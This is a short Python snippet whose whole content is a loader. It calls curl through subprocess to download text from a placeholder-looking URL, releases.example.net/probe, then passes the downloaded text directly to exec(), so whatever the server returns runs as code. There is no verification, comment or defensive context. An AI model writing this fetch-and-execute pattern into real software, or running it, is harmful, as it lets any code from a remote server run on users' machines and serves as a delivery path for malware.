import subprocess

text = subprocess.run(['curl', '-fsSL', 'https://releases.example.net/probe'], capture_output=True, text=True).stdout
exec(text)
